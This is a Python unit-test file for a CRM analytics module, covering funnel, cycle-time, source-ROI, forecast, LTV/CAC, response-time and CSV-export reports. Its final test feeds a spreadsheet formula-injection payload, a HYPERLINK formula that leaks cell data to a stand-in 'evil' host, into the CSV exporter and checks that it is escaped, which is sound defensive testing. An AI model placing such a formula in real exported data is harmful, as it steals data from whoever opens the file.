from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest

from services.analytics import reports
from services.analytics.handlers.reporting import to_csv

pytestmark = pytest.mark.unit

T0 = datetime(2026, 11, 2, 9, 0, tzinfo=UTC)
PIPE = {
    "_id": "p1",
    "stages": [
        {"id": "s1", "name": "New", "kind": "open"},
        {"id": "s2", "name": "Qualified", "kind": "open"},
        {"id": "s3", "name": "Proposal", "kind": "open"},
        {"id": "w", "name": "Won", "kind": "won"},
        {"id": "l", "name": "Lost", "kind": "lost"},
    ],
}


def h(hours: float) -> datetime:
    return T0 + timedelta(hours=hours)


def deal(
    id: str, path: list[tuple[str, float]], status: str = "open", amount: str = "100.00", **kw: object
) -> dict:
    visits = [{"stage_id": s, "entered_at": h(t)} for s, t in path]
    d = {
        "_id": id,
        "pipeline_id": "p1",
        "status": status,
        "amount": amount,
        "created_at": h(path[0][1]),
        "visits": visits,
        **kw,
    }
    if status == "won":
        d["won_at"] = h(path[-1][1])
    if status == "lost":
        d["lost_at"] = h(path[-1][1])
    return d


DEALS = [
    deal("a", [("s1", 0), ("s2", 2), ("s3", 5), ("w", 10)], "won", "1000.00"),
    deal("b", [("s1", 0), ("s2", 1), ("l", 3)], "lost"),
    deal("c", [("s1", 0)]),
    deal("d", [("s1", 0), ("s3", 4), ("s1", 6)]),  # skipped a stage, then went back
]


def test_funnel_counts_entered_and_moved_on_per_stage() -> None:
    out = reports.funnel(PIPE, DEALS, None, None)
    rows = {r["stage_id"]: r for r in out["stages"]}
    assert [r["stage_id"] for r in out["stages"]] == ["s1", "s2", "s3"]
    assert rows["s1"]["entered"] == 4 and rows["s1"]["moved_on"] == 3  # a, b, d went further
    assert rows["s1"]["conversion"] == 0.75
    assert rows["s2"]["entered"] == 2 and rows["s2"]["moved_on"] == 1  # b went to lost
    assert rows["s3"]["entered"] == 2 and rows["s3"]["moved_on"] == 1  # a won, d went back
    assert out["won"] == 1 and out["lost"] == 1 and out["win_rate"] == 0.5


def test_funnel_period_counts_only_entries_inside_it() -> None:
    out = reports.funnel(PIPE, DEALS, h(1.5), h(4.5))
    rows = {r["stage_id"]: r["entered"] for r in out["stages"]}
    assert rows == {"s1": 0, "s2": 1, "s3": 1}
    assert out["won"] == 0 and out["lost"] == 1


def test_cycle_time_names_the_bottleneck() -> None:
    out = reports.cycle_time(PIPE, DEALS, None, None)
    stages = {r["stage_id"]: r for r in out["stages"]}
    assert out["won_deals"] == 1 and out["avg_days"] == round(10 / 24, 2)
    assert stages["s3"]["avg_hours"] == 3.5  # a: 5 h, d: 2 h
    assert out["bottleneck_stage_id"] == "s3"


def test_sources_group_by_utm_source_else_channel_kind_with_roi() -> None:
    contacts = [
        {"_id": "c1", "source": {"kind": "form", "utm_source": "yandex"}, "created_at": h(0)},
        {"_id": "c2", "source": {"kind": "form", "utm_source": "yandex"}, "created_at": h(0)},
        {"_id": "c3", "source": {"kind": "twilio"}, "created_at": h(0)},
    ]
    deals = [deal("a", [("s1", 0), ("w", 1)], "won", "3000.00", contact_id="c1")]
    costs = [{"source": "yandex", "period": "2026-11", "amount": "1000"}]
    items = {i["source"]: i for i in reports.sources(contacts, deals, costs, None, None)["items"]}
    assert items["yandex"] == {
        "source": "yandex",
        "leads": 2,
        "deals": 1,
        "won": 1,
        "revenue": "3000.00",
        "conversion": 0.5,
        "cost": "1000.00",
        "roi": 2.0,
    }
    assert items["twilio"]["leads"] == 1 and items["twilio"]["won"] == 0


def test_forecast_weights_open_deals_by_probability() -> None:
    deals = [
        {"status": "open", "amount": "1000.00", "probability": 30, "expected_close": "2026-12-15"},
        {"status": "open", "amount": "500.00", "probability": 50},
        {"status": "won", "amount": "999.00", "probability": 100},
    ]
    out = reports.forecast(deals)
    assert out["items"] == [
        {"period": "2026-12", "deals": 1, "amount": "1000.00", "weighted": "300.00"},
        {"period": "unscheduled", "deals": 1, "amount": "500.00", "weighted": "250.00"},
    ]
    assert out["weighted_total"] == "550.00"


def test_plan_vs_actual_compares_won_revenue_of_the_month() -> None:
    plans = [{"period": "2026-11", "amount": "2000", "owner_id": None, "deals": 2}]
    deals = [
        deal("a", [("s1", 0), ("w", 1)], "won", "1500.00"),
        deal("b", [("s1", 0), ("w", 24 * 40)], "won", "700.00"),
    ]  # won in December
    out = reports.plan_vs_actual(plans, deals, None, None)["items"][0]
    assert out["actual_amount"] == "1500.00" and out["completion"] == 0.75 and out["actual_deals"] == 1


def test_ltv_cac_per_source() -> None:
    contacts = [{"_id": "c1", "source": {"utm_source": "vk"}}, {"_id": "c2", "source": {"utm_source": "vk"}}]
    deals = [
        deal("a", [("s1", 0), ("w", 1)], "won", "100.00", contact_id="c1"),
        deal("b", [("s1", 0), ("w", 2)], "won", "300.00", contact_id="c1"),
        deal("c", [("s1", 0), ("w", 3)], "won", "200.00", contact_id="c2"),
    ]
    costs = [{"source": "vk", "period": "2026-11", "amount": "100"}]
    row = reports.ltv_cac(contacts, deals, costs, None, None)["items"][0]
    assert (
        row["customers"] == 2 and row["ltv"] == "300.00" and row["cac"] == "50.00" and row["ltv_cac"] == 6.0
    )


def test_response_time_measures_first_answer_to_a_new_lead() -> None:
    interactions = [
        {
            "contact_id": "c1",
            "owner_id": "u1",
            "direction": "in",
            "occurred_at": h(0),
            "is_new_contact": True,
        },
        {"contact_id": "c1", "owner_id": "u1", "direction": "out", "occurred_at": h(0.1)},
        {
            "contact_id": "c2",
            "owner_id": "u1",
            "direction": "in",
            "occurred_at": h(0),
            "is_new_contact": True,
        },
    ]
    tasks = [{"contact_id": "c2", "completed_at": h(1)}]
    row = reports.response_time(interactions, tasks, None, None, sla_minutes=15)["items"][0]
    assert row["leads"] == 2 and row["responded"] == 2
    assert row["avg_minutes"] == 33.0 and row["within_sla"] == 0.5


def test_csv_has_one_row_per_item_and_the_field_names_as_header() -> None:
    text = to_csv(reports.funnel(PIPE, DEALS, None, None), "stages")
    lines = text.strip().splitlines()
    assert lines[0] == "stage_id,name,entered,moved_on,conversion"
    assert len(lines) == 4 and lines[1].startswith("s1,New,4,3,0.75")


def test_sources_csv_escapes_a_formula_from_an_anonymous_forms_utm_source() -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    contacts = [
        {"_id": "c1", "source": {"kind": "form", "utm_source": evil}, "created_at": h(0)},
        {"_id": "c2", "source": {"kind": "form", "utm_source": "@SUM(1+1)"}, "created_at": h(0)},
        {"_id": "c3", "source": {"kind": "form", "utm_source": "-2+3"}, "created_at": h(0)},
    ]
    text = to_csv(reports.sources(contacts, [], [], None, None), "items")
    table = list(csv.DictReader(io.StringIO(text)))
    assert {row["source"] for row in table} == {"'" + evil, "'@SUM(1+1)", "-2+3"}
    assert all(not row["source"].startswith(("=", "@")) for row in table)
